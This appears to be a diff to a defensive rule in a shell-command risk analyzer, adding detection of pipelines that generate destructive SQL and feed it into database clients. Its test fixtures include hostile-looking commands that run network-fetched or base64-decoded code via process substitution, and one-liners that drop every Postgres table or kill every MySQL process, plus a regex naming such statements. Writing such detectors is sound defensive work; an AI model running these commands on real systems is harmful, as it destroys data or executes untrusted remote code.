@@ -7,7 +7,8 @@ Source: CWE-494; MITRE ATT&CK T1059, T1105.
 from collections.abc import Iterator
 from itertools import pairwise
 
-from llmsh.core.command import Script, SimpleCommand, Word, walk
+from llmsh.core.command import Node, Script, SimpleCommand, Word, walk
+from llmsh.core.late_pattern import late_pattern
 from llmsh.core.risk import Finding, Reason
 from llmsh.risk.circumstances import feed_of
 from llmsh.risk.found import danger
@@ -47,11 +48,14 @@ MATCHES = (
     "java -jar <(curl -s http://h/a.jar)",
     "sqlite3 a.db < <(curl -s http://h/a.sql)",
     "make -f <(base64 -d m.b64)",
+    'mysqladmin processlist | awk \'{print "kill "$2";"}\' | mysql',
+    "psql -Atc \"select 'drop table '||tablename from pg_tables\" | psql",
 )
 IGNORES = (
     "diff <(curl -s http://h/a) <(curl -s http://h/b)",
     "awk -f <(echo 1) x",
     "make -f Makefile",
+    "psql -Atc \"select 'drop table '||tablename from pg_tables\" > drops.sql",
     "awk '{print}' <(curl -s http://h/a)",
     "curl -s http://h/a | jq .",
     "curl -s http://h/a | awk -f a.awk",
@@ -63,6 +67,11 @@ _RUN_INPUT = names(
     expect wish tclsh octave sbcl guile racket ghci
     """
 )
+_DATABASES = frozenset({"psql", "mysql", "mariadb", "sqlite3", "cqlsh", "clickhouse-client", "redis-cli", "mongosh"})
+_HARM = late_pattern(
+    r"(?i)(?:^|['\"\s])(?:drop\s+\w|truncate\b|delete\s+from\b|kill\s+(?:query\s+)?[\"'%$ ]|del\s|flush(?:all|db)\b)"
+)
+_MAKERS = _DATABASES | {"awk", "gawk", "mawk", "sed", "gsed", "perl", "xargs", "jq", "printf", "echo"}
 _HIDDEN = "runs code that is hidden by an encoding"
 _MESSAGE = "carries out what the network answers"
 
@@ -70,6 +79,7 @@ _MESSAGE = "carries out what the network answers"
 def inspect(script: Script) -> Iterator[Finding]:
     for item in script.items:
         feed = ""
+        before: list[Node] = []
         for node in item.commands:
             if isinstance(node, SimpleCommand):
                 code = _code_words(node)
@@ -83,7 +93,17 @@ def inspect(script: Script) -> Iterator[Finding]:
                     yield danger(Reason.NETWORK_EXEC, _MESSAGE, node.program or "")
                 elif any(_is_fetched(word, "decoder") for word in code if word.shape.startswith("<(")):
                     yield danger(Reason.INDIRECT, _HIDDEN, node.program or "")
+                if node.program in _DATABASES and any(map(_writes_out_harm, before)):
+                    yield danger(Reason.DATABASE_DROP, "feeds statements that drop or end things to a database")
             feed = feed_of(node, feed)
+            before.append(node)
+
+
+def _writes_out_harm(node: Node) -> bool:
+    """Claims that `node` writes out statements that destroy: `awk '{print "drop table " $1}'`."""
+    if not isinstance(node, SimpleCommand) or node.program not in _MAKERS:
+        return False
+    return any(_HARM.search(shape) for shape in node.shapes)
 
 
 def _code_words(command: SimpleCommand) -> list[Word]:
